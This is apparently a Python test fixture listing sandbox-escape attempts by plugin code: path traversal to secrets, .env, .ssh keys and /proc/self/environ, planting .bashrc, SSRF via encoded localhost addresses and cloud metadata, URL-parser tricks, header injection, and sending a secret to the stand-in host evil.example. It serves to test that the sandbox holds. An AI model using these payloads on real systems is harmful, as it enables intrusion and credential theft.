"""What the code of a gem asks its host for and must not get, and the same host with its barriers taken away."""

GRANTED, EVIL, INSIDE = "https://api.example.com", "https://evil.example", "http://127.0.0.1:8080/admin"

_READ = "return await ctx.files.read(%s)"

FILES = {
    "step_up": _READ % "'workspace:../secret.txt'",
    "step_up_from_inside": _READ % "'workspace:sub/../../secret.txt'",
    "step_up_from_the_run": "await ctx.files.write('a', 'x'); " + _READ % "'../../../secret.txt'",
    "absolute": "await ctx.files.write('b', 'x'); " + _READ % "input.secret",
    "absolute_in_the_workspace": _READ % "'workspace:' + input.secret",
    "another_conversation": _READ % "'workspace:../other/letter.txt'",
    "link_to_a_file": _READ % "'workspace:link.txt'",
    "link_to_a_folder": _READ % "'workspace:up/secret.txt'",
    "link_of_an_earlier_run": _READ % "'workspace:runs/earlier/link.txt'",
    "dot_entry": _READ % "'workspace:.env'",
    "dot_folder": _READ % "'workspace:.ssh/key.txt'",
    "proc": _READ % "'workspace:/proc/self/environ'",
    "list_of_what_is_above": "return (await ctx.files.list('workspace:..')).length",
    "list_of_a_linked_folder": "return (await ctx.files.list('workspace:up')).length",
    "whether_something_is_there": "return (await ctx.files.stat('workspace:../secret.txt')).size",
    "writing_above": "await ctx.files.write('workspace:../planted.txt', 'x'); return 1",
    "writing_through_a_link": "await ctx.files.write('workspace:link.txt', 'x'); return 1",
    "writing_into_a_linked_folder": "await ctx.files.write('workspace:up/planted.txt', 'x'); return 1",
    "writing_a_dot_entry": "await ctx.files.write('workspace:.bashrc', 'x'); return 1",
    "folder_above": "await ctx.files.mkdir('workspace:../planted'); return 1",
    "moving_out": "await ctx.files.write('workspace:a1', 'x'); "
    "await ctx.files.move('workspace:a1', 'workspace:../moved'); return 1",
    "moving_in": "await ctx.files.move('workspace:../movable.txt', 'workspace:mine.txt'); return 1",
    "deleting_above": "await ctx.files.delete('workspace:../deletable.txt'); return 1",
}

_FETCH = "return await (await ctx.http.fetch(%s)).text()"


def _with(header: str, value: str) -> str:
    return _FETCH % f"'{GRANTED}/', {{ headers: {{ {header!r}: {value!r} }} }}"


NETWORK = {
    "another_host": _FETCH % f"'{EVIL}/'",
    "another_port": _FETCH % f"'{GRANTED}:8443/'",
    "host_behind_a_user": _FETCH % "'https://api.example.com@evil.example/'",
    "host_behind_a_backslash": _FETCH % "'https://evil.example\\\\@api.example.com/'",
    "host_below": _FETCH % "'https://api.example.com.evil.example/'",
    "host_with_a_foreign_letter": _FETCH % "'https://\\u0430pi.example.com/'",
    "host_with_a_full_width_dot": _FETCH % "'https://evil\\uff0eexample/'",
    "this_computer": _FETCH % f"'{INSIDE}'",
    "as_one_number": _FETCH % "'http://2130706433:8080/'",
    "in_hexadecimal": _FETCH % "'http://0x7f.1:8080/'",
    "in_octal": _FETCH % "'http://017700000001:8080/'",
    "in_short": _FETCH % "'http://127.1:8080/'",
    "by_name": _FETCH % "'http://localhost.:8080/'",
    "ipv6": _FETCH % "'http://[::1]:8080/'",
    "mapped": _FETCH % "'http://[::ffff:127.0.0.1]:8080/'",
    "all_addresses": _FETCH % "'http://0.0.0.0:8080/'",
    "cloud_metadata": _FETCH % "'http://169.254.169.254/latest/meta-data/'",
    "granted_name_leading_inward": _FETCH % "'https://inward.example.com/'",
    "redirect_to_another_host": _FETCH % f"'{GRANTED}/to-evil'",
    "redirect_inward": _FETCH % f"'{GRANTED}/inward'",
    "redirect_to_a_file": _FETCH % f"'{GRANTED}/to-file'",
    "file": _FETCH % "'file://' + input.secret",
    "other_scheme": _FETCH % "'gopher://api.example.com/'",
    "header_with_a_line": _with("X-A", "a\r\nHost: evil.example"),
    "secret_in_an_address": _FETCH % f"'{EVIL}/?stolen=' + encodeURIComponent(input.secret)",
    "secret_in_a_host_name": _FETCH % "'https://' + btoa('stolen').replaceAll('=', '') + '.evil.example/'",
}

_NODE = "gem:other/rec/notes/r-1"

NODES = {
    "references_of_another_gem": f"return (await ctx.data.refs.outgoing('{_NODE}')).length",
    "link_from_another_gem": f"await ctx.data.refs.link('{_NODE}', 'gem:greeter/rec/notes/r-1', 'x'); return 1",
    "unlink_from_another_gem": f"await ctx.data.refs.unlink('{_NODE}', 'gem:greeter/rec/notes/r-1', 'x'); return 1",
}
